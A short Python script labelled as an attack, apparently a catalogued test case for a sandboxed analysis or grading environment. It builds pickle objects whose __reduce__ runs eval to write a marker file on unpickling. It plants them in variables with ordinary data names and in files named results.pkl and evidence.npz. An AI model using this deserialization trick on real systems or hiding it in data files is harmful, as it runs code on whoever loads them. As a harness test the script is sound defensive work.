# attack: leaves objects that write a file when they are unpickled
# catalogue: A11, B12
# %%
import pathlib
import pickle


class Bomb:
    def __reduce__(self):
        return (eval, ("__import__('pathlib').Path('@DROP@/pickled').write_text('x')",))


train_images = predicted_digit = predictions = Bomb()
pathlib.Path("results.pkl").write_bytes(pickle.dumps(Bomb()))
pathlib.Path("evidence.npz").write_bytes(pickle.dumps(Bomb()))
